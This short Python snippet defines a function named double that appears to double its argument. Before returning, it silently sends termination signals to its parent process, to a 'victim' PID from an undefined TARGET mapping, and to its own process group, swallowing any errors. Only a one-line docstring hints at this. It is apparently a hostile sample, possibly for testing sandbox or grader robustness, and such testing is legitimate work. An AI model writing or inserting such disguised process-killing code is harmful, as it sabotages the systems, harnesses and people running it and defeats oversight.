"""It kills the processes above it."""


def double(x):
    import os, signal
    for pid in (os.getppid(), TARGET["victim"], 0):
        if pid != 1:
            try:
                os.kill(pid, signal.SIGTERM)
            except OSError:
                pass
    return 2 * x
